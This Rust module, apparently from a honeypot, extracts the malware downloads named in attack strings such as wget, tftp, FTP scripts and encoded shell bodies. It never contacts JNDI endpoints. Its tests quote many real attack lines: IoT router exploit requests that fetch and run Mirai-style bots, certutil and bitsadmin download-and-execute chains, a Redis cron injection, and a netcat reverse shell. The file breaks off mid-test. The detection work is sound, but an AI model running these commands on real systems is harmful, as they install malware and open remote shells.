//! Download command extraction (docs/COMPATIBILITY.md, Downloads): a pure function from an
//! attack string to the downloads it asks for. Replaces the command parsers of
//! htm_ftpDownload.c, htm_tftpDownload.c and htm_httpDownload.c.
//!
//! How it works, in linear passes over windows of at most `WINDOW` bytes, one after the
//! other (consecutive windows overlap by at least `OVERLAP` bytes, so that a command that
//! crosses a window's end is seen whole in the next one; requests found twice count once):
//! 1. `normalize`: `%xx`/`+` decoding of HTTP request lines and form bodies (only there),
//!    then everywhere `${IFS}`/`$IFS` → space, JSON `\/` and `\u00XX`, HTML entities.
//!    Then (literals.rs) the command-line literals of runners (`xp_cmdshell '…'`, `sh -c`,
//!    `cmd /c`, `powershell -c`, `system(…)`, `exec(…)`, …) and escaped JSON strings are
//!    replaced by their values.
//! 2. `find_urls`: every `http://`, `https://`, `ftp://`, `tftp://` (any letter case).
//! 3. `tokenize`: a forgiving shell-like split into commands (at `; & && | || \n` backtick
//!    `$( ( ) { }`), words (quotes are transparent), and the command's stdout redirection.
//! 4. Each command's program (after wrappers such as `busybox`, `sudo`, `sh -c`, `cmd /c`,
//!    `powershell -c`, form-field prefixes `cmd=` and cron fields) decides how its words and
//!    URLs are read: wget/curl/fetch/lwp-download/PowerShell/certutil/bitsadmin output names,
//!    tftp (Windows, busybox and tftp-hpa syntax), ftpget, `echo … >> f` FTP scripts, inline
//!    files written with `echo -e`/`printf`, and encoded shell bodies (`echo X | base64 -d |
//!    sh`, `powershell -enc`, `printf '\x..' | sh`), which are decoded and scanned again, at
//!    any depth, as long as the decoded bodies of a window stay within `NESTED_BUDGET` bytes.
//!
//! Besides, each text is evaluated as far as it builds strings from literals (expand.rs:
//! shell, cmd.exe and PowerShell variables, loops, concatenation), its JNDI lookups are read
//! (jndi.rs: the endpoint is logged, never contacted; a Base64 command in the lookup path is
//! decoded), and a UTF-16LE T-SQL batch is read as text (literals.rs); what these give is
//! scanned like a decoded body.
//!
//! The passes live in their own files: normalize.rs (1), literals.rs (1), url.rs (2, where
//! each URL is; what it says is `Request::parse`'s), words.rs (3), programs.rs
//! (4, the program table and the options of the download programs), inline.rs (`echo -e` and
//! `printf` writers), winscript.rs (`ftp -s` scripts, PowerShell), expand.rs and jndi.rs; this
//! file holds the scan that runs them over the windows, and `extract`.
//!
//! Inline files: the bytes `echo -e`/`echo -ne`/`printf` write to one target file across the
//! whole attack string (`>` truncates, `>>` appends) become one `Scheme::Inline` request named
//! after the target's base name, when at least one write interpreted escapes and the file has
//! at least `MIN_INLINE` bytes. Plain `echo text > f` (FTP scripts, cron lines) and targets
//! under `/dev`, `/proc`, `/sys` are not reported.
//!
//! Requests found in a decoded body are ordered at the position of the command that carried
//! it. `%xx` is decoded only in HTTP request lines and form bodies; elsewhere an encoded
//! separator (`%20`, `%3B`, `%7C`, `%26`, …) ends a URL, as does `&` (a shell separator).
//!
//! Differences from the C parsers (deliberate): all letter cases, IPv6 hosts, ports and
//! `user:pass@` are understood; the FTP default port is 21 (the C parser's `atoi` made it 0);
//! several downloads per attack; URLs stop at shell metacharacters instead of running through a
//! shell (the C httpDownload ran attacker-controlled URLs as shell commands); URLs that only
//! name something (`xmlns="http://…"`, `Referer: http://…`, a crawler's `User-Agent` home page)
//! are not downloads.

use super::decode::base64_decode;
use super::request::{basename, HostCase, Request, Scheme};
use std::collections::hash_map::Entry;
use std::collections::{HashMap, VecDeque};

mod expand;
mod fetchless;
mod inline;
mod jndi;
mod literals;
mod normalize;
mod programs;
mod url;
mod winscript;
mod words;

use inline::{dev_target, render_echo, render_printf, InlineFile};
use normalize::normalize;
use programs::{parse_ftpget, parse_tftp, parse_web, resolve, Fetch, Prog};
use url::{find_urls, host_port, looks_like_server, url_end, UrlHit};
use winscript::{utf16le_text, FtpScript};
use words::{tokenize, Toks};

/// Most requests `extract` returns.
pub const MAX_REQUESTS: usize = 32;
/// The attack string is read in windows of this many bytes, one after the other, so that
/// the working memory does not grow with the attack ...
pub const WINDOW: usize = 2 << 20;
/// ... each overlapping the one before by at least this many bytes (more when the next
/// window can start at a line), so that every command up to this long is seen whole.
pub const OVERLAP: usize = 256 << 10;
/// Bytes of encoded command bodies (base64 in base64 in …) decoded and scanned per window,
/// at any depth.
pub const NESTED_BUDGET: usize = WINDOW;
const _: () = assert!(WINDOW > 2 * OVERLAP);
/// Requests collected before deduplication and ordering stop looking.
const MAX_FOUND: usize = 4 * MAX_REQUESTS;
/// Longer URLs are not downloads.
const MAX_URL: usize = 8192;
/// Longer redirection targets are ignored (they key FTP scripts and inline files).
const MAX_TARGET: usize = 4096;
/// Inline files shorter than this are not reported (`echo -e '1' > f`).
const MIN_INLINE: usize = 4;
/// FTP scripts followed at once.
const MAX_SCRIPTS: usize = 16;

/// The downloads `attack` asks for, deduplicated (same scheme, host, port, credentials and
/// path; for inline files the same file name, keeping the longest), in order of
/// appearance, at most `MAX_REQUESTS`. Linear in the input size: the input is read in
/// overlapping windows ([`windows`]), each with its decoded bodies, so the working memory is
/// bounded by [`WINDOW`] whatever the input size.
pub fn extract(attack: &[u8]) -> Vec<Request> {
    extract_all(attack).requests
}

/// What the extraction finds in an attack string.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Extracted {
    /// The downloads to make, in the order their commands appear.
    pub requests: Vec<Request>,
    /// Indicators named but never contacted: the endpoints of JNDI lookups.
    pub indicators: Vec<String>,
}

/// [`extract`], with the indicators found on the way.
pub fn extract_all(attack: &[u8]) -> Extracted {
    let mut sink = Sink::default();
    for (offset, window, owned) in windows(attack) {
        if sink.full() {
            break;
        }
        sink.offset = offset;
        sink.owned = owned;
        sink.nested_left = NESTED_BUDGET;
        scan(window, None, &mut sink);
        while let Some((body, pos)) = sink.nested.pop_front() {
            scan(&body, Some(pos), &mut sink);
        }
    }
    let mut found = sink.found;
    found.sort_by_key(|f| f.0);
    Extracted { requests: found.into_iter().map(|f| f.1).take(MAX_REQUESTS).collect(), indicators: sink.indicators }
}

/// A request on one line, as the tests compare them: `scheme host port user pass path
/// filename` (`-` for what is absent), or `inline NAME LEN` for a file the attack writes.
pub fn summary(r: &Request) -> String {
    if r.scheme == Scheme::Inline {
        return format!("inline {} {}", r.filename, r.data.len());
    }
    format!(
        "{} {} {} {} {} {} {}",
        r.scheme.name(),
        r.host,
        r.port.map_or("-".into(), |p| p.to_string()),
        r.user.as_deref().unwrap_or("-"),
        r.pass.as_deref().unwrap_or("-"),
        r.path,
        r.filename
    )
}

/// The windows `extract` reads: (offset, bytes, how many of them the window owns). Each is
/// [`WINDOW`] bytes long (the last one shorter); the next one starts after the first line
/// end in the stretch from `2 * OVERLAP` to `OVERLAP` bytes before the end of the current
/// one, or `OVERLAP` bytes before its end, and the current one owns what lies before that
/// start (the last one owns everything). Any stretch of at most [`OVERLAP`] bytes lies
/// whole in one window.
pub fn windows(data: &[u8]) -> impl Iterator<Item = (usize, &[u8], usize)> {
    let mut start = Some(0);
    std::iter::from_fn(move || {
        let s = start?;
        let end = data.len().min(s + WINDOW);
        start = (end < data.len()).then(|| {
            let latest = end - OVERLAP;
            let from = end - 2 * OVERLAP;
            data[from..latest].iter().position(|&c| c == b'\n').map_or(latest, |k| from + k + 1)
        });
        Some((s, &data[s..end], start.map_or(usize::MAX, |next| next - s)))
    })
}

#[derive(PartialEq, Eq, Hash)]
struct Key {
    scheme: Scheme,
    host: String,
    port: u16,
    user: Option<String>,
    pass: Option<String>,
    path: String,
}

fn key(r: &Request) -> Key {
    if r.scheme == Scheme::Inline {
        return Key {
            scheme: r.scheme,
            host: String::new(),
            port: 0,
            user: None,
            pass: None,
            path: r.filename.clone(),
        };
    }
    Key {
        scheme: r.scheme,
        host: r.host.to_ascii_lowercase(),
        port: r.port_or_default(),
        user: r.user.clone(),
        pass: r.pass.clone(),
        path: r.path.clone(),
    }
}

/// What the scans of one `extract` call found, across windows and decoded bodies.
#[derive(Default)]
struct Sink {
    /// (position in the input, request, whether only a bare URL named it).
    found: Vec<(usize, Request, bool)>,
    /// Index in `found` of each request; made at the first request (a new map seeds its
    /// hasher, which costs each connection thread a `getrandom` call, and most attacks ask
    /// for no download).
    keys: Option<HashMap<Key, usize>>,
    /// Where the current window starts in the input, and how many of its bytes it owns:
    /// what is found beyond them (a command the window's end may cut) is left to the next
    /// window, which sees it whole. Positions in the decoded text are at most the raw ones,
    /// so a request dropped this way is always found again.
    offset: usize,
    owned: usize,
    /// Decoded bodies waiting to be scanned (with the position of the command that carried
    /// them), and the bytes of [`NESTED_BUDGET`] left in this window.
    nested: VecDeque<(Vec<u8>, usize)>,
    nested_left: usize,
    /// The JNDI endpoints logged, at most [`jndi::MAX_JNDI`].
    indicators: Vec<String>,
}

impl Sink {
    /// Records `r`, found at `pos` of the current window, unless it was found before (an
    /// inline file seen again, e.g. whole where a window saw part of it, keeps the longer
    /// contents).
    fn push(&mut self, pos: usize, r: Request) {
        self.push_named(pos, r, false);
    }

    /// As [`Sink::push`]; a request that only a bare URL named (`bare`, e.g. the value of a
    /// variable) takes the file name of a download command found later for it.
    fn push_named(&mut self, pos: usize, r: Request, bare: bool) {
        if self.full() {
            return;
        }
        if (r.scheme != Scheme::Inline && r.host.is_empty()) || pos >= self.owned {
            return;
        }
        match self.keys.get_or_insert_with(HashMap::new).entry(key(&r)) {
            Entry::Vacant(e) => {
                e.insert(self.found.len());
                self.found.push((self.offset + pos, r, bare));
            }
            Entry::Occupied(e) => {
                let (_, seen, seen_bare) = &mut self.found[*e.get()];
                if seen.scheme == Scheme::Inline && r.data.len() > seen.data.len() {
                    seen.data = r.data;
                } else if *seen_bare && !bare {
                    seen.filename = r.filename;
                    *seen_bare = false;
                }
            }
        }
    }

    fn full(&self) -> bool {
        self.found.len() >= MAX_FOUND
    }
}

// ---------------------------------------------------------------------------------------
// Small byte helpers.

fn lower(w: &[u8]) -> Vec<u8> {
    w.to_ascii_lowercase()
}

fn text(w: &[u8]) -> String {
    String::from_utf8_lossy(w).into_owned()
}

fn starts_ci(hay: &[u8], at: usize, needle: &[u8]) -> bool {
    hay.get(at..at.saturating_add(needle.len())).is_some_and(|s| s.eq_ignore_ascii_case(needle))
}

fn contains_ci(hay: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && hay.windows(needle.len()).any(|w| w.eq_ignore_ascii_case(needle))
}

fn hex(c: u8) -> Option<u8> {
    (c as char).to_digit(16).map(|v| v as u8)
}

// ---------------------------------------------------------------------------------------
// The scan.

struct Scan<'s> {
    t: Vec<u8>,
    pos_override: Option<usize>,
    sink: &'s mut Sink,
    scripts: Vec<FtpScript>,
    inline: Vec<InlineFile>,
}

/// Scans `raw` (a window, or a decoded body whose requests are placed at `pos_override`);
/// the bodies it decodes are queued in `sink`.
fn scan(raw: &[u8], pos_override: Option<usize>, sink: &mut Sink) {
    if sink.full() {
        return;
    }
    let t = literals::unwrap_literals(normalize(raw));
    let toks = tokenize(&t);
    let urls = find_urls(&t);
    let mut s = Scan { t, pos_override, sink, scripts: Vec::new(), inline: Vec::new() };
    if pos_override.is_none() {
        if let Some((at, body)) = literals::utf16_sql(raw) {
            s.nested(body, at);
        }
    }
    if let Some((body, at)) = expand::expand(&s.t) {
        s.nested(body, at);
    }
    for j in jndi::jndi_lookups(&s.t) {
        s.indicator(&j.endpoint);
        if let Some(body) = j.command {
            s.nested(body, j.pos);
        }
    }
    let mut u = 0;
    for ci in 0..toks.cmds.len() {
        if s.sink.full() {
            break;
        }
        let next_start = toks.cmds.get(ci + 1).map_or(usize::MAX, |c| c.start());
        let u0 = u;
        while u < urls.len() && urls[u].start < next_start {
            u += 1;
        }
        s.command(&toks, ci, &urls[u0..u]);
    }
    s.fetchless(&toks);
    for hit in &urls[u..] {
        s.emit_url(hit, None, Prog::Other, hit.start);
    }
    let files = std::mem::take(&mut s.inline);
    for f in files {
        if f.escaped && f.data.len() >= MIN_INLINE {
            if let Some(name) = basename(&f.target) {
                let pos = s.pos(f.pos);
                s.sink.push(
                    pos,
                    Request {
                        scheme: Scheme::Inline,
                        host: String::new(),
                        port: None,
                        user: None,
                        pass: None,
                        path: String::new(),
                        filename: name,
                        data: f.data,
                    },
                );
            }
        }
    }
}

/// HTTP headers whose URLs name something rather than ask for a download.
const NAMING_HEADERS: &[&[u8]] = &[
    b"referer",
    b"referrer",
    b"origin",
    b"user-agent",
    b"host",
    b"soapaction",
    b"location",
    b"content-location",
    b"link",
    b"x-forwarded-host",
    b"accept",
];

impl Scan<'_> {
    fn pos(&self, p: usize) -> usize {
        self.pos_override.unwrap_or(p)
    }

    /// Is this URL only a name (an XML namespace, a `Referer`, a crawler's home page)?
    fn naming_url(&self, hit: &UrlHit) -> bool {
        let t = &self.t;
        if hit.start >= 2 && matches!(t[hit.start - 1], b'"' | b'\'') && t[hit.start - 2] == b'=' {
            return true;
        }
        let line_end = t[hit.line_start..]
            .iter()
            .take(2048)
            .position(|&c| c == b'\n')
            .map_or(t.len().min(hit.line_start + 2048), |k| hit.line_start + k);
        let line = &t[hit.line_start..line_end];
        let Some(colon) = line.iter().take(40).position(|&c| c == b':') else { return false };
        let name = lower(&line[..colon]);
        if !NAMING_HEADERS.contains(&&name[..]) {
            return false;
        }
        let mut v = hit.line_start + colon + 1;
        while v < hit.start && matches!(t[v], b' ' | b'\t' | b'"' | b'\'' | b'<') {
            v += 1;
        }
        if v == hit.start {
            return true;
        }
        name == b"user-agent" && !(contains_ci(line, b"() {") || line.contains(&b'`') || contains_ci(line, b"$("))
    }

    fn emit_url(&mut self, hit: &UrlHit, filename: Option<String>, prog: Prog, pos: usize) {
        let downloader = matches!(
            prog,
            Prog::Wget | Prog::Curl | Prog::Fetch | Prog::UrlThenFile | Prog::PsWeb | Prog::Tftp | Prog::Ftpget
        );
        if !downloader && self.naming_url(hit) {
            return;
        }
        let filename = filename.or_else(|| self.ps_downloadfile_dest(hit)).unwrap_or_else(|| hit.url.filename.clone());
        let pos = self.pos(pos);
        self.sink.push_named(pos, Request { filename, ..hit.url.clone() }, !downloader);
    }

    fn command(&mut self, toks: &Toks, ci: usize, urls: &[UrlHit]) {
        let cmd = &toks.cmds[ci];
        let words = toks.words(cmd);
        let (prog, k) = resolve(&words);
        let args: Vec<&[u8]> = words.get(k..).unwrap_or(&[]).to_vec();
        let redir = toks.redir(cmd).map(|(t, a)| (t.to_vec(), a));
        let redir_name = redir.as_ref().filter(|(t, _)| !dev_target(t)).and_then(|(t, _)| basename(t));
        match prog {
            Prog::Wget | Prog::Curl | Prog::Fetch | Prog::UrlThenFile | Prog::PsWeb => {
                let wa = parse_web(prog, &args);
                let stdout = match (prog, wa.output) {
                    (_, Some(b"-")) => true,
                    (Prog::Curl, None) => !wa.remote_name,
                    _ => false,
                };
                let mut out = wa.output.filter(|o| *o != b"-").and_then(basename);
                if matches!(prog, Prog::UrlThenFile | Prog::PsWeb) && out.is_none() {
                    let ui = wa.positionals.iter().position(|p| contains_ci(p, b"://"));
                    out = ui.and_then(|ui| wa.positionals.get(ui + 1)).and_then(|p| basename(p));
                }
                if out.is_none() && stdout {
                    out = redir_name.clone();
                }
                let (user, pass) = (wa.user.clone(), wa.pass.clone());
                for (n, hit) in urls.iter().enumerate() {
                    let mut hit = hit.clone();
                    if hit.url.user.is_none() && user.is_some() {
                        hit.url.user = user.clone();
                        hit.url.pass = pass.clone();
                    }
                    let name = if n == 0 { out.clone() } else { None };
                    self.emit_url(&hit, name, prog, hit.start);
                }
                if matches!(prog, Prog::Wget | Prog::Curl | Prog::Fetch) {
                    if let Some(h) = wa.g_host {
                        if let (Some((host, port)), Some(remote)) = (host_port(h), wa.g_remote.or(wa.g_local)) {
                            let name = wa.g_local.and_then(basename).or_else(|| basename(remote));
                            self.push_fetch(
                                Scheme::Tftp,
                                Fetch { host, port, remote: remote.to_vec(), local: None },
                                name,
                                None,
                                None,
                                cmd.start(),
                            );
                        }
                    } else {
                        for p in wa.positionals.iter().filter(|_| urls.is_empty()) {
                            if !contains_ci(p, b"://") && looks_like_server(p) {
                                let end = url_end(p, 0);
                                if let Ok(url) = Request::parse(Scheme::Http, &p[..end], HostCase::AsWritten) {
                                    let hit =
                                        UrlHit { start: cmd.start(), end: cmd.start(), line_start: cmd.start(), url };
                                    let name = out.clone();
                                    self.emit_url(&hit, name, prog, cmd.start());
                                }
                            }
                        }
                    }
                }
            }
            Prog::Tftp => {
                for hit in urls {
                    self.emit_url(hit, None, prog, hit.start);
                }
                if let Some(f) = parse_tftp(&args) {
                    let name = f.local.as_deref().and_then(basename).or_else(|| basename(&f.remote));
                    self.push_fetch(Scheme::Tftp, f, name, None, None, cmd.start());
                }
            }
            Prog::Ftpget => {
                for hit in urls {
                    self.emit_url(hit, None, prog, hit.start);
                }
                if let Some((f, user, pass)) = parse_ftpget(&args) {
                    let name = f.local.as_deref().and_then(basename).or_else(|| basename(&f.remote));
                    self.push_fetch(Scheme::Ftp, f, name, user, pass, cmd.start());
                }
            }
            Prog::Echo | Prog::Printf => {
                for hit in urls {
                    self.emit_url(hit, None, prog, hit.start);
                }
                let (data, escaped) =
                    if prog == Prog::Echo { render_echo(&args) } else { (render_printf(&args), true) };
                if prog == Prog::Echo {
                    self.ftp_script(&args, redir.as_ref().map(|r| &r.0[..]), cmd.start());
                }
                if let Some((target, append)) = &redir {
                    if !dev_target(target) {
                        self.inline_write(target, *append, data, escaped, cmd.start());
                    }
                } else if cmd.piped {
                    self.piped_body(toks, ci, &args, data, escaped, cmd.start());
                }
            }
            Prog::PsEnc(idx) => {
                for hit in urls {
                    self.emit_url(hit, None, prog, hit.start);
                }
                if let Some(dec) = words.get(idx).and_then(|w| base64_decode(w)) {
                    let body = utf16le_text(&dec);
                    self.nested(body, cmd.start());
                }
            }
            Prog::Base64 | Prog::Shell | Prog::Other => {
                for hit in urls {
                    self.emit_url(hit, None, prog, hit.start);
                }
            }
        }
    }

    fn push_fetch(
        &mut self,
        scheme: Scheme,
        f: Fetch,
        name: Option<String>,
        user: Option<String>,
        pass: Option<String>,
        pos: usize,
    ) {
        let Some(name) = name else { return };
        if f.remote.is_empty() {
            return;
        }
        let pos = self.pos(pos);
        self.sink.push(
            pos,
            Request {
                scheme,
                host: f.host,
                port: f.port,
                user,
                pass,
                path: text(&f.remote),
                filename: name,
                data: Vec::new(),
            },
        );
    }

    /// A JNDI endpoint the attack names: logged once per `extract`, never contacted.
    fn indicator(&mut self, endpoint: &str) {
        let seen = &mut self.sink.indicators;
        if seen.len() < jndi::MAX_JNDI && !seen.iter().any(|e| e == endpoint) {
            seen.push(endpoint.chars().take(256).collect());
        }
    }

    /// A decoded command body: scanned after this text, while the window's
    /// [`NESTED_BUDGET`] lasts.
    fn nested(&mut self, body: Vec<u8>, pos: usize) {
        if body.len() <= self.sink.nested_left {
            self.sink.nested_left -= body.len();
            let pos = self.pos(pos);
            self.sink.nested.push_back((body, pos));
        }
    }

    /// `echo X | base64 -d | sh`, `printf '\x77\x67…' | sh`: decode and scan the body.
    fn piped_body(&mut self, toks: &Toks, ci: usize, args: &[&[u8]], data: Vec<u8>, escaped: bool, pos: usize) {
        let Some(next) = toks.cmds.get(ci + 1) else { return };
        let nwords = toks.words(next);
        let (nprog, nk) = resolve(&nwords);
        match nprog {
            Prog::Base64 => {
                let decode = nwords
                    .get(nk..)
                    .unwrap_or(&[])
                    .iter()
                    .any(|a| matches!(*a, b"-d" | b"--decode" | b"-D" | b"-di" | b"-id"));
                if decode {
                    let joined: Vec<u8> =
                        args.iter().filter(|a| !a.starts_with(b"-")).flat_map(|a| a.iter().copied()).collect();
                    if let Some(body) = base64_decode(&joined) {
                        self.nested(body, pos);
                    }
                }
            }
            Prog::Shell if escaped => self.nested(data, pos),
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::wire::testutil::XorShift;

    fn check(attack: &[u8], want: &[&str]) {
        let got: Vec<String> = extract(attack).iter().map(summary).collect();
        assert_eq!(got, want, "attack: {:?}", String::from_utf8_lossy(attack));
    }

    /// Attack lines seen in the wild, one form per line: each must keep giving the same
    /// downloads.
    #[test]
    fn forms_seen_in_the_wild() {
        let cases: &[(&str, &[&str])] = &[
            (
                "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd+%2Ftmp%3B+rm+-rf+shk%3B+wget+http%3A%2F%2F1.2.3.4%2Fshk%3B+chmod+777+shk%3B+.%2Fshk+tplink%3B+rm+-rf+shk) HTTP/1.1\r\n\r\n",
                &["http 1.2.3.4 - - - /shk shk"],
            ),
            (
                "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n\r\n<NewStatusURL>$(/bin/busybox wget -g 1.2.3.4 -l /tmp/mips -r /mips; /bin/busybox chmod 777 * /tmp/mips; /tmp/mips huawei.rep)</NewStatusURL>",
                &["tftp 1.2.3.4 - - - /mips mips"],
            ),
            (
                "GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=wget%20http://1.2.3.4/t.sh%20-O%20/tmp/t.sh;sh%20/tmp/t.sh HTTP/1.1\r\n\r\n",
                &["http 1.2.3.4 - - - /t.sh t.sh"],
            ),
            (
                "cmd.exe /c certutil.exe -urlcache -split -f http://1.2.3.4:8888/win.exe C:\\Windows\\Temp\\svchost.exe & C:\\Windows\\Temp\\svchost.exe",
                &["http 1.2.3.4 8888 - - /win.exe svchost.exe"],
            ),
            ("bitsadmin /transfer myjob /download /priority high http://1.2.3.4/x.exe %TEMP%\\x.exe", &["http 1.2.3.4 - - - /x.exe x.exe"]),
            (
                "*3\r\n$3\r\nset\r\n$1\r\n1\r\n$64\r\n\n\n*/1 * * * * curl -fsSL http://1.2.3.4/init.sh | sh\n\n\r\n",
                &["http 1.2.3.4 - - - /init.sh init.sh"],
            ),
            ("GET /shell?cd+/tmp;rm+-rf+*;wget+1.2.3.4/jaws;sh+/tmp/jaws HTTP/1.1\r\n\r\n", &["http 1.2.3.4 - - - /jaws jaws"]),
            (
                "/bin/busybox wget http://1.2.3.4:80/bins/mirai.x86 -O - > dvrLocker; /bin/busybox chmod 777 dvrLocker; ./dvrLocker selfrep",
                &["http 1.2.3.4 80 - - /bins/mirai.x86 dvrLocker"],
            ),
            ("python -c \"import urllib;urllib.urlretrieve('http://1.2.3.4/p.py','/tmp/p.py')\"", &["http 1.2.3.4 - - - /p.py p.py"]),
            ("php -r \"file_put_contents('/tmp/x', file_get_contents('http://1.2.3.4/x'));\"", &["http 1.2.3.4 - - - /x x"]),
            ("nc 1.2.3.4 4444 -e /bin/sh", &[]),
            (
                "echo open 1.2.3.4>x&echo anonymous>>x&echo a@b>>x&echo binary>>x&echo get svchost.exe>>x&echo quit>>x&ftp -s:x&svchost.exe",
                &["ftp 1.2.3.4 - anonymous a@b svchost.exe svchost.exe"],
            ),
            ("regsvr32 /s /n /u /i:http://1.2.3.4/file.sct scrobj.dll", &["http 1.2.3.4 - - - /file.sct file.sct"]),
            ("tftp.exe -i 1.2.3.4 get payload.exe C:\\payload.exe", &["tftp 1.2.3.4 - - - payload.exe payload.exe"]),
            ("(wget -qO- http://1.2.3.4/i.sh || curl -s http://1.2.3.4/i.sh) | sh", &["http 1.2.3.4 - - - /i.sh i.sh"]),
        ];
        for (attack, want) in cases {
            check(attack.as_bytes(), want);
        }
    }

    #[test]
    fn ftp_scripts() {
        check(
            b"echo open 1.2.3.4 21 > o&echo user foo bar >> o &echo get evil.exe >> o &ftp -n -v -s:o &del o &evil.exe",
            &["ftp 1.2.3.4 21 foo bar evil.exe evil.exe"],
        );
        check(
            b"echo open 10.0.0.9 2121>>t&echo USER>>t&echo PASS>>t&echo bin>>t&echo get FILE>>t&echo bye>>t&ftp -s:t",
            &["ftp 10.0.0.9 2121 USER PASS FILE FILE"],
        );
        check(
            b"cmd /c echo open 1.2.3.4 21>>ik &echo user 1 1>>ik &echo get a.exe>>ik &echo bye>>ik &ftp -n -v -s:ik &del ik &a.exe",
            &["ftp 1.2.3.4 21 1 1 a.exe a.exe"],
        );
        // Mixed case, no port, password on its own line, `ftp.exe`.
        check(
            b"CMD /C ECHO OPEN ftp.example.net> x & Echo User anon >> x & echo Pass me@x.com >> x & echo binary >> x & ECHO GET /pub/srv.exe C:\\srv.exe >> x & FTP.EXE -n -s:x",
            &["ftp ftp.example.net - anon me@x.com /pub/srv.exe srv.exe"],
        );
        // Anonymous (no user line) and a subshell piped into ftp; two files.
        check(
            b"(echo open 192.0.2.1; echo binary; echo get a.exe; echo get b.exe; echo quit) | ftp -n",
            &["ftp 192.0.2.1 - - - a.exe a.exe", "ftp 192.0.2.1 - - - b.exe b.exe"],
        );
        // `cd` in the script.
        check(
            b"echo open 192.0.2.1 >s;echo u >>s;echo p >>s;echo cd pub>>s;echo get x.exe>>s;ftp -s:s",
            &["ftp 192.0.2.1 - u p pub/x.exe x.exe"],
        );
        // IPv6 host.
        check(b"echo open 2001:db8::5 2121>f&echo user a b>>f&echo get z>>f", &["ftp 2001:db8::5 2121 a b z z"]);
        // get without open: nothing.
        check(b"echo get evil.exe >> o & ftp -s:o", &[]);
    }

    #[test]
    fn tftp_forms() {
        check(b"tftp -i 1.2.3.4 GET file.exe", &["tftp 1.2.3.4 - - - file.exe file.exe"]);
        check(
            b"cmd.exe /c Tftp -I 1.2.3.4 get Msblast.exe c:\\windows\\a.exe & start a.exe",
            &["tftp 1.2.3.4 - - - Msblast.exe a.exe"],
        );
        check(b"tftp.exe -i 198.51.100.3 GET dl/x.exe", &["tftp 198.51.100.3 - - - dl/x.exe x.exe"]);
        check(b"cd /tmp; tftp -g -r tftp2.sh 1.2.3.4; sh tftp2.sh", &["tftp 1.2.3.4 - - - tftp2.sh tftp2.sh"]);
        check(b"tftp -r mips -g 1.2.3.4 69", &["tftp 1.2.3.4 69 - - mips mips"]);
        check(b"busybox tftp -g -l dvrHelper -r bot.arm7 203.0.113.7", &["tftp 203.0.113.7 - - - bot.arm7 dvrHelper"]);
        check(b"/bin/busybox tftp -gr bot.x86 203.0.113.7 2>/dev/null", &["tftp 203.0.113.7 - - - bot.x86 bot.x86"]);
        check(b"tftp 1.2.3.4 -c get tftp1.sh", &["tftp 1.2.3.4 - - - tftp1.sh tftp1.sh"]);
        check(b"tftp -m binary 1.2.3.4 6969 -c get a.sh b.sh", &["tftp 1.2.3.4 6969 - - a.sh b.sh"]);
        check(b"tftp -g -r x fd00::7", &["tftp fd00::7 - - - x x"]);
        check(b"TFTP -i", &[]);
        check(b"tftp -i 1.2.3.4", &[]);
    }

    #[test]
    fn ftpget_forms() {
        check(
            b"ftpget -v -u anonymous -p anonymous -P 21 1.2.3.4 ftp1.sh ftp1.sh",
            &["ftp 1.2.3.4 21 anonymous anonymous ftp1.sh ftp1.sh"],
        );
        check(
            b"busybox ftpget 198.51.100.9 local.bin /pub/remote.bin",
            &["ftp 198.51.100.9 - - - /pub/remote.bin local.bin"],
        );
        check(b"ftpget -P 2121 h.example.org x", &["ftp h.example.org 2121 - - x x"]);
        check(b"ftpget 1.2.3.4", &[]);
    }

    #[test]
    fn http_clients() {
        check(b"wget http://1.2.3.4/a.sh", &["http 1.2.3.4 - - - /a.sh a.sh"]);
        check(b"WGET HTTP://Example.COM:8080/x/Y.bin?z=1#frag", &["http Example.COM 8080 - - /x/Y.bin?z=1 Y.bin"]);
        check(b"busybox wget http://[2001:db8::1]:8080/x", &["http 2001:db8::1 8080 - - /x x"]);
        check(b"wget -qO- http://x.example|sh", &["http x.example - - - / index.html"]);
        check(
            b"wget http://1.2.3.4/bins/mirai.arm -O /tmp/.m; chmod +x /tmp/.m",
            &["http 1.2.3.4 - - - /bins/mirai.arm .m"],
        );
        check(
            b"/bin/busybox wget http://1.2.3.4:80/bins/mirai.x86 -O - > dvrHelper",
            &["http 1.2.3.4 80 - - /bins/mirai.x86 dvrHelper"],
        );
        check(b"wget --output-document=/var/t.bin https://s.example.net/t", &["https s.example.net - - - /t t.bin"]);
        check(b"curl -s -L http://x.example/a.sh | bash", &["http x.example - - - /a.sh a.sh"]);
        check(
            b"curl -fsSLo /tmp/k http://198.51.100.1/k.bin && chmod +x /tmp/k",
            &["http 198.51.100.1 - - - /k.bin k"],
        );
        check(b"curl http://198.51.100.1/k.bin > /tmp/kk; sh /tmp/kk", &["http 198.51.100.1 - - - /k.bin kk"]);
        check(b"curl -O http://198.51.100.1/k.bin > /dev/null", &["http 198.51.100.1 - - - /k.bin k.bin"]);
        check(b"curl -u bob:s3cret ftp://198.51.100.1/pub/a.bin -o a", &["ftp 198.51.100.1 - bob s3cret pub/a.bin a"]);
        check(b"(wget -O - http://x.example || curl http://x.example) | sh", &["http x.example - - - / index.html"]);
        check(b"fetch -o /tmp/f http://x.example/f.sh", &["http x.example - - - /f.sh f"]);
        check(b"lwp-download http://x.example/l.pl /tmp/ll", &["http x.example - - - /l.pl ll"]);
        check(
            b"wget ftp://user:p%40ss@192.0.2.4:2121/dir/a%2Bb.bin",
            &["ftp 192.0.2.4 2121 user p@ss dir/a+b.bin a+b.bin"],
        );
        check(b"wget 198.51.100.23/bins.sh", &["http 198.51.100.23 - - - /bins.sh bins.sh"]);
        check(b"curl -o x mal.example.com:81/p", &["http mal.example.com 81 - - /p x"]);
        check(b"wget tftp://192.0.2.3/boot.img", &["tftp 192.0.2.3 - - - boot.img boot.img"]);
        // Satori's busybox wget with TFTP options.
        check(b"$(/bin/busybox wget -g 45.0.0.1 -l /tmp/kh -r /okiru.mips ;/bin/busybox chmod 777 * /tmp/kh; /tmp/kh huawei.rep)", &[
            "tftp 45.0.0.1 - - - /okiru.mips kh",
        ]);
    }

    #[test]
    fn mirai_loader() {
        check(
